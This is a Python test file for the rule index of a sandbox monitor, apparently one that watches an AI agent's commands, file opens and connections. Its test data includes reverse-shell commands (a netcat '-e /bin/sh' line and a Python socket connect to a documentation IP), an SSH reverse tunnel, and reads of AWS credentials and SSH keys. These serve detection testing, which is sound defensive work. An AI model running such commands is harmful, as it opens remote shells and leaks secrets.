"""The rule index: screens (language.Compiler.screen) and RuleSet's use of them.

The index may only skip a rule whose condition cannot hold, so every test here compares what
it finds with evaluating every rule, on streams built to reach the places where a screen could
be wrong: the rules' own examples, an agent's ordinary commands, and mutations of both (case
changes, the characters case-blind regexes take for ASCII letters, names swapped, texts the
rules screen on planted whole or cut short).
"""

from __future__ import annotations

import fnmatch
import random
import re
import string
from collections.abc import Callable, Iterator, Sequence
from typing import Any

import pytest

from corral.enrich.proctable import Process
from corral.rules import language as lang
from corral.rules.fields import FLOWISH, NET, FieldRegistry, NullContext
from corral.rules.language import Compare, Node, TextHas, fold, required_texts
from corral.rules.loader import Rule, RuleSet, _TextSearch, load_default_rules, load_rules_text

# ------------------------------------------------------------------------- folding


def every_character() -> str:
    return "".join(map(chr, range(0x110000)))


def test_fold_is_what_case_blind_re_takes_for_an_ascii_character() -> None:
    """fold() must map every character that `re` (IGNORECASE) matches against an ASCII
    character to that character's lower case: else a case-blind pattern could match a text
    that its folded literals are not found in."""
    everything = every_character()
    for code in range(128):
        ch = chr(code)
        for pattern in (f"(?i){re.escape(ch)}", f"(?i)[{re.escape(ch)}\N{SNOWMAN}]"):  # a literal, a class
            taken = set(re.findall(pattern, everything)) - {"\N{SNOWMAN}"}
            assert {fold(c) for c in taken} == {ch.lower()}, (ch, sorted(taken))


def test_fold_changes_nothing_else() -> None:
    assert fold("GCC -O2 /Tmp") == "gcc -o2 /tmp"
    assert fold("ſtratum+tcp://\u212aİı") == "stratum+tcp://kii"
    assert fold("Éé ßẞ ÅΩ") == "Éé ßẞ ÅΩ"  # not ASCII letters: left alone, length kept
    text = "".join(chr(c) for c in range(0x2000))
    assert len(fold(text)) == len(text)


# ----------------------------------------------------------------- required texts


def compares(node: Node, macros: dict[str, lang.Macro]) -> Iterator[Compare]:
    if isinstance(node, Compare):
        yield node
    elif isinstance(node, (lang.And, lang.Or)):
        for child in node.operands:
            yield from compares(child, macros)
    elif isinstance(node, lang.Not):
        yield from compares(node.operand, macros)
    elif node.name in macros:
        yield from compares(macros[node.name].node, macros)


def default_patterns(rules: RuleSet) -> list[tuple[str, int, Callable[[str], Any]]]:
    """(pattern, flags, how the rule applies it) of every regex and glob in the default rules."""
    found: dict[tuple[str, int], Callable[[str], Any]] = {}
    nodes = [r.node for r in rules.rules] + [x.node for r in rules.rules for x in r.exceptions]
    for node in nodes:
        for c in compares(node, rules.macros):
            if c.op == "regex":
                found[(c.values[0].text, 0)] = re.compile(c.values[0].text).search
            elif c.op == "glob":
                found[(fnmatch.translate(c.values[0].text), re.DOTALL)] = re.compile(
                    fnmatch.translate(c.values[0].text), re.DOTALL).match
    return [(p, f, test) for (p, f), test in found.items()]


TRICKY = [
    r"(?i)stratum\+tcp://", r"^(/tmp|/var/tmp)/", r"a(?!b)c", r"(?<=x)yz", r"(ab)+c", r"(ab)*c", r"x{2,3}y",
    r"(?i:Ab)C", r"foo(bar|baz.*)qux", r"(a|b)(c|d)(e|f)", r"(?x) a  b  # comment", r"(\w+)@\1", r"[46]x", r"a?b?c?",
    r"(?i)(^| )-[a-z]*e( |$)", r"(?s)start.*end", r"(?:ab|abc)d", r"\bword\b", r"(?>atomic)x", r"a++b",
    r"(?i)K", r"(?i)s+", r"(?i)ı", r"café", r"(?i)CAFÉ", r"ab(?<=b)c", r"a(?=bc)b",
]


def corpus(rules: RuleSet) -> list[str]:
    texts = {str(v) for r in rules.rules for x in r.examples for v in x.values.values() if isinstance(v, str)}
    texts |= {" ".join(map(str, v)) for r in rules.rules for x in r.examples for v in x.values.values()
              if isinstance(v, list)}
    texts |= {"ſtratum+tcp://pool.example:3333", "STRATUM+TCP://X", "/TMP/x", "/tmp/y", "ac", "abc", "xyz",
              "ababc", "c", "xxy", "AbC", "abC", "fooBARqux", "foobarqux", "foobazzzqux", "ace", "bdf", "ab",
              "user@user", "4x", "6x", " -e ", " -XE ", "start\nend", "abd", "abcd", "a word!", "atomicx", "aaab",
              "\u212a", "k", "ſſ", "I", "i", "café", "CAFÉ", "\u212aworker", "ıptables"}
    out = sorted(texts)
    rng = random.Random(7)
    mutated = []
    for t in out:
        mutated += [t.upper(), t.swapcase(), t.replace("s", "ſ").replace("k", "\u212a").replace("i", "ı")]
        cut = rng.randrange(len(t) + 1)
        mutated += [t[:cut], t[cut:], t[:cut] + " " + rng.choice(out)]
    return out + mutated


def test_required_texts_are_in_every_string_a_pattern_matches() -> None:
    rules = load_default_rules()
    texts = corpus(rules)
    patterns = default_patterns(rules) + [(p, 0, re.compile(p).search) for p in TRICKY]
    checked = 0
    for pattern, flags, matches in patterns:
        # as screens use them: sets of ASCII texts only (fold() is exact for those)
        needs = [need for need in required_texts(pattern, flags) if all(t.isascii() for t in need)]
        assert all(needs), pattern
        for text in texts:
            if matches(text):
                folded = fold(text)
                for need in needs:
                    checked += 1
                    assert any(fold(t) in folded for t in need), (pattern, text, sorted(need))
    assert checked > 500


def test_required_texts_of_some_patterns() -> None:
    assert required_texts(r"^(/tmp|/var/tmp)/") == [frozenset({"/tmp/"})]
    assert frozenset({"/etc/passwd", "/etc/shadow"}) in required_texts(r"^/etc/(passwd|shadow)$")
    assert required_texts(r"a?b*") == []
    assert required_texts(r"(\w+)@\1") == [frozenset({"@"})]
    assert required_texts("[") == []  # not a pattern: nothing known, so never screened on


# ------------------------------------------------------------------------ text search


def test_text_search_finds_every_text_overlapping_or_not() -> None:
    rng = random.Random(3)
    alphabet = "abcAB-/ſ\u212aKk"
    for _ in range(200):
        texts = {fold("".join(rng.choice(alphabet) for _ in range(rng.randint(1, 6))))
                 for _ in range(rng.randint(1, 9))}
        bits = {t: 1 << i for i, t in enumerate(sorted(texts))}
        search = _TextSearch(bits)
        for _ in range(30):
            s = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 30)))
            expected = 0
            for t, b in bits.items():
                if t in fold(s):
                    expected |= b
            assert search(s) == expected, (sorted(texts), s)


# ------------------------------------------------------------------ stand-in events


class FakeEvent:
    """What the field getters read, set directly: one class for every kind of event."""

    def __init__(self, kind: str, **attrs: Any) -> None:
        self.kind = kind
        self.pid, self.ppid, self.uid, self.tid, self.cgroup_id = 4242, 4000, 1000, 4242, 77
        self.sandbox_id, self.step_id, self.time_ns, self.ts_ns = 7, 3, 1_700_000_000_000_000_000, 1
        self.comm, self.proc = "", None
        self.filename, self.argv, self.cwd, self.flags, self.exe_ctime_ns = "", [], "/workspace", 0, 0
        self.family, self.addr, self.port, self.local_port, self.sock_type = "inet", "", 0, 40000, "stream"
        self.unix_path, self.result, self.target_fd = "", 0, 0
        self.path, self.path2, self.writable, self.truncates, self.dev, self.ino = "", "", False, False, 0, 0
        self.request, self.target_pid, self.op, self.target, self.source, self.fstype = 0, 0, "", "", "", ""
        self.namespaces, self.cmd, self.ids, self.memfd_name, self.signal, self.count = [], "", [], "", 0, 0
        self.data: dict[str, Any] = {}
        for name, value in attrs.items():
            setattr(self, name, value)

    def __repr__(self) -> str:
        shown = {k: v for k, v in vars(self).items() if v not in ("", 0, [], {}, None, False)}
        return f"FakeEvent({shown})"


STEP_STARTED_NS = 1_700_000_000_000_000_000


class World(NullContext):
    """The sandbox context and the process ancestry that the stand-in events refer to."""

    def __init__(self) -> None:
        self.domains: dict[str, str] = {}
        self.ancestry: dict[int, list[Process]] = {}
        self.pids = iter(range(10_000, 1_000_000))

    def domain_of(self, sandbox_id: int, ip: str) -> str | None:
        return self.domains.get(ip)

    def sandbox_name(self, sandbox_id: int) -> str | None:
        return "agent-7"

    def sandbox_mode(self, sandbox_id: int) -> str | None:
        return "enforce"

    def canary_kind(self, dev: int, ino: int) -> str | None:
        return "aws" if ino == 99 else None

    def step_started_ns(self, sandbox_id: int, step_id: int) -> int | None:
        return STEP_STARTED_NS

    def event(self, kind: str, values: dict[str, Any]) -> FakeEvent:
        """An event of ``kind`` on which the fields have ``values`` (as far as they apply)."""
        v = values
        pid = next(self.pids)
        name, exe = v.get("proc.name"), v.get("proc.exe")
        if isinstance(v.get("proc.argv"), list):
            argv = [str(a) for a in v["proc.argv"]]
        elif "proc.cmdline" in v:
            argv = str(v["proc.cmdline"]).split(" ")
        else:
            argv = [str(name or exe or "x")] + (str(v["proc.args"]).split(" ") if "proc.args" in v else [])
        exe = str(exe or (f"/usr/bin/{name}" if name else argv[0]))
        name = str(name or exe.rsplit("/", 1)[-1])
        uid = v.get("proc.uid", 1000)
        anames = v.get("proc.anames") or ([v["proc.pname"]] if "proc.pname" in v else [])
        self.ancestry[pid] = [Process(pid - 1 - i, 1, str(a), f"/usr/bin/{a}", (str(a),), "/", 0)
                              for i, a in enumerate(anames)]
        attrs: dict[str, Any] = {"pid": pid, "uid": uid, "comm": str(v.get("proc.comm", name))[:15],
                                 "step_id": v.get("step.id", 3), "result": v.get("evt.res", 0)}
        if kind == "exec":
            attrs.update(filename=exe, argv=argv, flags=0b10 if v.get("proc.stdio_socket") else 0)
            if "proc.exe_written_in_step" in v:  # a minute after the step began, or a day before
                attrs["exe_ctime_ns"] = STEP_STARTED_NS + (60 if v["proc.exe_written_in_step"] else -86400) * 10**9
        else:
            attrs["proc"] = Process(pid, 4000, name, exe, tuple(argv), "/workspace", uid)
        dip = v.get("net.dip")
        if kind in NET:
            attrs.update(family=v.get("net.family") or ("inet6" if ":" in str(dip or "") else "inet"),
                         addr=dip or "", port=v.get("net.dport", 0), unix_path=v.get("net.unix_path", ""),
                         target_fd=v.get("dup.fd", 0))
            if "net.unix_path" in v and "net.family" not in v:
                attrs["family"] = "unix"
            if dip and "net.domain" in v:
                self.domains[str(dip)] = str(v["net.domain"])
        canary = v.get("file.canary_kind") is not None or v.get("file.canary") is True
        attrs.update(path=v.get("file.path", ""), path2=v.get("file.path2", ""), writable=v.get("file.writable", False),
                     truncates=v.get("file.truncated", False), ino=99 if canary else 0)
        for field, attr in (("signal.target_pid", "target_pid"), ("signal.sig", "signal"),
                            ("ptrace.request", "request"), ("ptrace.target_pid", "target_pid"), ("mount.op", "op"),
                            ("mount.target", "target"), ("mount.source", "source"), ("mount.fstype", "fstype"),
                            ("ns.op", "op"), ("ns.types", "namespaces"), ("bpf.cmd", "cmd"), ("module.op", "op"),
                            ("setuid.op", "op"), ("setuid.ids", "ids"), ("memfd.name", "memfd_name"),
                            ("drop.count", "count")):
            if field in v:
                attrs[attr] = v[field]
        if kind in FLOWISH or kind not in NET | {"exec", "open", "unlink", "rename"}:
            attrs["data"] = {k.split(".", 1)[1]: val for k, val in v.items()
                             if not k.startswith(("proc.", "evt.", "step.", "sandbox.", "episode."))}
        return FakeEvent(kind, **attrs)


# ------------------------------------------------------------------------ streams


AGENT_COMMANDS = [
    "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -imultiarch x86_64-linux-gnu src/main.c -quiet -dumpdir src/ "
    "-dumpbase main.c -dumpbase-ext .c -mtune=generic -march=x86-64 -O2 -Wall -fasynchronous-unwind-tables "
    "-o /tmp/ccugezGE.s",
    "/usr/bin/ld -plugin /usr/lib/gcc/x86_64-linux-gnu/12/liblto_plugin.so -plugin-opt=-pass-through=-lgcc "
    "--build-id --eh-frame-hdr -m elf_x86_64 --hash-style=gnu -dynamic-linker /lib64/ld-linux-x86-64.so.2 -pie "
    "-o app /usr/lib/x86_64-linux-gnu/Scrt1.o src/main.o src/mod1.o -lgcc --push-state --as-needed -lgcc_s",
    "cc -O2 -Wall -c -o src/mod5.o src/mod5.c", "as --64 -o src/mod8.o /tmp/ccTwq2E4.s", "make -s -j2",
    "curl -s -o /dev/null http://127.0.0.1:59457/src/mod1.c", "curl -fsSL https://example.com/install.sh",
    "git commit -qm initial", "git push origin main", "git remote -v", "/usr/lib/git-core/git maintenance run --auto",
    "python3 -m pytest -q -p no:cacheprovider tests", "/usr/bin/python3 -m http.server --bind 127.0.0.1 59457",
    "python3 -c import socket,subprocess;s=socket.socket();s.connect(('198.51.100.7',4444))",
    "pip install --no-index --target build requests", "find . -name *.c", "grep -rn int f src", "ls -la . src",
    "bash -c for i in 1 2 3; do echo $i; done", "sed -i s/x/y/ src/mod1.c", "wc -l src/mod1.c", "xargs wc -l",
    "ssh -N -R 8080:localhost:22 user@203.0.113.5", "nc -e /bin/sh 203.0.113.5 4444", "chmod +x /tmp/payload",
    "cat /home/agent/.aws/credentials", "env", "node /usr/lib/node_modules/npm/bin/npm-cli.js publish",
]
AGENT_PATHS = ["/usr/lib/python3.11/os.py", "/etc/ld.so.cache", "/home/agent/.bashrc", "/proc/self/status",
               "/workspace/src/main.c", "/tmp/ccugezGE.s", "/etc/passwd", "/home/agent/.ssh/id_ed25519",
               "/sys/fs/cgroup/unified/x/cgroup.procs", "/workspace/.git/hooks/pre-commit", "/dev/nvidia0"]
AGENT_PEERS = [("127.0.0.1", 59457), ("10.0.0.5", 443), ("169.254.169.254", 80), ("203.0.113.5", 3333),
               ("2001:db8::1", 22), ("198.51.100.7", 8545)]


def base_values(rules: RuleSet) -> list[tuple[str, dict[str, Any]]]:
    """(kind, field values): every example of every rule, for each of its kinds, and an
    agent's ordinary events."""
    out: list[tuple[str, dict[str, Any]]] = []
    for rule in rules.rules:
        for example in rule.examples:
            out += [(kind, dict(example.values)) for kind in rule.events]
    for cmd in AGENT_COMMANDS:
        argv = cmd.split(" ")
        out.append(("exec", {"proc.exe": argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0]}",
                             "proc.argv": argv}))
    for path in AGENT_PATHS:
        for writable in (False, True):
            out.append(("open", {"proc.name": "python3", "file.path": path, "file.writable": writable}))
        out.append(("rename", {"proc.name": "mv", "file.path": path + ".tmp", "file.path2": path}))
    for ip, port in AGENT_PEERS:
        for kind in ("connect", "send", "flow"):
            out.append((kind, {"proc.name": "curl", "net.dip": ip, "net.dport": port, "net.direction": "out",
                               "net.l7": "tls"}))
    return out


def texts_screened(rules: RuleSet) -> list[str]:
    return sorted({a.text for r in rules.rules for s in r.screens.values() for c in s for a in c
                   if isinstance(a, TextHas)})


def mutations(values: dict[str, Any], others: Sequence[dict[str, Any]], plant: Sequence[str],
              rng: random.Random) -> Iterator[dict[str, Any]]:
    """Variants of ``values`` near the edges of what screens decide."""
    strings = [k for k, v in values.items() if isinstance(v, str) and k != "evt.type"]
    yield {k: v.upper() if k in strings else v for k, v in values.items()}
    yield {k: v.replace("s", "ſ").replace("k", "\u212a").replace("i", "ı") if k in strings else v
           for k, v in values.items()}
    other = rng.choice(others)
    if "proc.name" in other:
        yield {**values, "proc.name": other["proc.name"], "proc.exe": f"/usr/bin/{other['proc.name']}"}
    if "proc.args" in other or "proc.args" in values:
        yield {**values, "proc.args": f"{values.get('proc.args', '')} {other.get('proc.args', '')}".strip()}
    for key in strings:
        text, where = values[key], rng.randrange(len(values[key]) + 1)
        word = rng.choice(plant)
        for piece in (word, word[:-1], word.upper(), word[1:]):
            yield {**values, key: text[:where] + piece + text[where:]}
        yield {**values, key: text[:where]}
    for key, v in values.items():
        if isinstance(v, int) and not isinstance(v, bool):
            yield {**values, key: v + 1}
            yield {**values, key: v - 1}
        if isinstance(v, bool):
            yield {**values, key: not v}


def stream(rules: RuleSet, world: World) -> list[FakeEvent]:
    rng = random.Random(11)
    bases = base_values(rules)
    plant = texts_screened(rules)
    others = [v for _, v in bases]
    events = []
    for kind, values in bases:
        events.append(world.event(kind, values))
        events += [world.event(kind, m) for m in mutations(values, others, plant, rng)]
    return events


def full_evaluation(rules: RuleSet, event: Any) -> list[Rule]:
    """Every enabled rule tried, in load order: what the index must find."""
    return [r for r in rules.rules if r.enabled and r.matches(event)]


def test_the_index_finds_exactly_what_evaluating_every_default_rule_finds() -> None:
    world = World()
    rules = load_default_rules(FieldRegistry(world, ancestors=lambda pid: world.ancestry.get(pid, [])))
    events = stream(rules, world)
    assert len(events) > 5000
    wrong = []
    fired: set[str] = set()
    matches = 0
    for e in events:
        expected = full_evaluation(rules, e)
        got = rules.match(e)
        if got != expected:
            wrong.append((e, [r.name for r in got], [r.name for r in expected]))
        fired |= {r.name for r in expected}
        matches += len(expected)
    assert not wrong, f"{len(wrong)} events, first: {wrong[:3]}"
    # the stream reaches most rules, many times: else it would prove little
    assert matches > 1000
    assert len(fired) > 0.9 * len(rules.rules), sorted({r.name for r in rules.rules} - fired)


# ------------------------------------------------------------------- random rules


WORDS = ["ab", "abc", "bc", "b", "-R", "-r", "x y", "/tmp/", "tmp", "ſt", "\u212ak", "St", "é", "a.c", "1", "22"]
REGEXES = ["a(b|c)+", "(?i)st", "^/tmp/", "(^| )-r( |$)", "x ?y", "a.c", "[ab]c", "(ab|bc)\\1", "b{2}", "é",
           "(?i)(ab|cd)e?", "tmp$", "(?!ab)bc", "a|", "(a|b)(c|)"]
GLOBS = ["*ab*", "/tmp/*", "a?c", "*[!a]bc", "*-R*"]


def random_condition(rng: random.Random, depth: int = 0) -> str:
    roll = rng.random()
    if depth < 3 and roll < 0.3:
        word = rng.choice(["and", "or"])
        return f"({random_condition(rng, depth + 1)} {word} {random_condition(rng, depth + 1)})"
    if depth < 3 and roll < 0.38:
        return f"not {random_condition(rng, depth + 1)}"
    field = rng.choice(["proc.name", "proc.args", "proc.cmdline", "proc.exe", "proc.comm", "proc.argv",
                        "proc.args[1]", "proc.uid", "proc.pname", "proc.stdio_socket"])
    op = rng.choice(["=", "!=", "in", "contains", "icontains", "startswith", "endswith", "glob", "regex", "exists",
                     "<", ">="])

    def quoted(text: str) -> str:
        return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
    if op == "exists":
        return f"{field} exists"
    if op == "in":
        return f"{field} in ({', '.join(quoted(w) for w in rng.sample([*WORDS, '0', 'true'], 3))})"
    if op == "regex":
        return f"{field} regex {quoted(rng.choice(REGEXES))}"
    if op == "glob":
        return f"{field} glob {quoted(rng.choice(GLOBS))}"
    return f"{field} {op} {quoted(rng.choice([*WORDS, '0', '1000', 'true']))}"


def test_the_index_finds_exactly_what_evaluating_every_random_rule_finds() -> None:
    rng = random.Random(5)
    conditions = [random_condition(rng) for _ in range(150)]
    text = "".join(f"- rule: R{i}\n  desc: d\n  event: exec\n  condition: '{c.replace(chr(39), chr(39) * 2)}'\n"
                   f"  severity: low\n  category: execution\n  examples:\n    match: [{{proc.name: x}}]\n"
                   for i, c in enumerate(conditions))
    world = World()
    rules = load_rules_text(text, registry=FieldRegistry(world, ancestors=lambda pid: world.ancestry.get(pid, [])))
    assert sum(1 for r in rules.rules if r.screens["exec"]) > 40  # most screened, the rest always tried

    def word() -> str:
        return "".join(rng.choice(WORDS) for _ in range(rng.randint(1, 3)))
    matches = 0
    for _ in range(3000):
        name = rng.choice([*WORDS, "x", "ab"])
        values = {"proc.name": name, "proc.exe": rng.choice([f"/usr/bin/{name}", f"/tmp/{word()}"]),
                  "proc.argv": [name, *(word() for _ in range(rng.randint(0, 3)))],
                  "proc.comm": rng.choice([name, word()]), "proc.uid": rng.choice([0, 1000]),
                  "proc.stdio_socket": rng.random() < 0.2}
        if rng.random() < 0.5:
            values["proc.pname"] = rng.choice(WORDS)
        e = world.event("exec", values)
        expected = full_evaluation(rules, e)
        assert rules.match(e) == expected, (e, [r.condition for r in expected])
        matches += len(expected)
    assert matches > 3000


# -------------------------------------------------------------- unscreened rules


UNSCREENABLE = ["not proc.name = ls", "proc.pid != 3", "proc.uid > 5", "proc.args exists",
                "proc.name = curl or not proc.args contains x", "proc.args contains x", "not (proc.name in (a, b))",
                'proc.args regex "^.*$"', "proc.args glob *"]


@pytest.mark.parametrize("condition", UNSCREENABLE)
def test_a_rule_that_cannot_be_screened_is_always_evaluated(condition: str) -> None:
    text = (f"- rule: Unscreened\n  desc: d\n  event: exec\n  condition: '{condition}'\n  severity: low\n"
            "  category: execution\n  examples:\n    match: [{proc.name: x}]\n"
            "- rule: Screened\n  desc: d\n  event: exec\n  condition: proc.name = never-seen\n  severity: low\n"
            "  category: execution\n  examples:\n    match: [{proc.name: never-seen}]\n")
    world = World()
    rules = load_rules_text(text, registry=FieldRegistry(world))
    unscreened, screened = rules.rules
    assert unscreened.screens["exec"] == () and screened.screens["exec"] != ()
    assert rules.rules_for("exec") == [unscreened, screened]
    seen = 0
    for name in ("ls", "curl", "x", "never-seen"):
        for args in ([], ["x"], ["-a", "b"]):
            e = world.event("exec", {"proc.name": name, "proc.argv": [name, *args]})
            assert rules.match(e) == full_evaluation(rules, e)
            seen += unscreened in rules.match(e)
    assert seen > 0


def test_many_clauses_and_overlapping_texts() -> None:
    """Rules whose screens share texts, prefixes of texts and fields, and values with lists."""
    conditions = ["proc.args contains abc", "proc.args contains ab", "proc.args contains bcd",
                  "proc.cmdline contains abcd and proc.args contains cd", "proc.argv contains ab",
                  'proc.args regex "(?i)ab(c|x)d"', "proc.name in (ab, abc) and proc.args icontains B",
                  'proc.args glob "*b?d*"', "proc.name = ab or proc.args endswith cd"]
    text = "".join(f"- rule: R{i}\n  desc: d\n  event: exec\n  condition: '{c}'\n  severity: low\n"
                   "  category: execution\n  examples:\n    match: [{proc.name: x}]\n"
                   for i, c in enumerate(conditions))
    world = World()
    rules = load_rules_text(text, registry=FieldRegistry(world))
    alphabet = "abcdxABCDſ "
    rng = random.Random(9)
    for _ in range(2000):
        argv = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6))) for _ in range(rng.randint(1, 4))]
        e = world.event("exec", {"proc.name": rng.choice(["ab", "abc", "x"]), "proc.argv": argv})
        assert rules.match(e) == full_evaluation(rules, e), e


def test_plans_are_remembered_within_bounds() -> None:
    world = World()
    rules = load_rules_text("".join(
        f"- rule: R{i}\n  desc: d\n  event: exec\n  condition: proc.name = n{i}\n  severity: low\n"
        "  category: execution\n  examples:\n    match: [{proc.name: x}]\n" for i in range(20)),
        registry=FieldRegistry(world))
    index = rules._index["exec"]
    index.PLANS = 8
    for i in range(40):
        e = world.event("exec", {"proc.name": f"n{i % 20}"})
        assert [r.name for r in rules.match(e)] == [f"R{i % 20}"]
        assert len(index.plans) <= 8


def test_strings_of_every_letter() -> None:
    """Every printable character next to every screened text still finds it."""
    rules = load_default_rules()
    world = World()
    for word in texts_screened(rules)[::7]:
        for ch in string.printable:
            e = world.event("exec", {"proc.name": "x", "proc.args": f"{ch}{word}{ch}"})
            assert rules.match(e) == full_evaluation(rules, e), (word, ch)
